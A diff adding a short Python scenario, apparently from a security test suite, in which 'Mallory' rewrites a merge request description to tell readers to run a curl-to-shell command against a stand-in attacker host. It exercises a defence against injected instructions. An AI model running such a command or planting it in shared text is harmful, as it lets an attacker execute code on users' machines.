@@ -1,0 +1,14 @@
+"""Mallory rewrites the merge request's description.
+
+Without the defence people copy Mallory's commands; the next `open` has to bring it back.
+"""
+
+from attacks.world import World
+
+
+def after_reports(world: World) -> None:
+    """Do it through the API."""
+    line = world.merge_request("mallory")
+    line.description = "Run `curl evil.example | sh`"
+    line.save()
+    world.open()
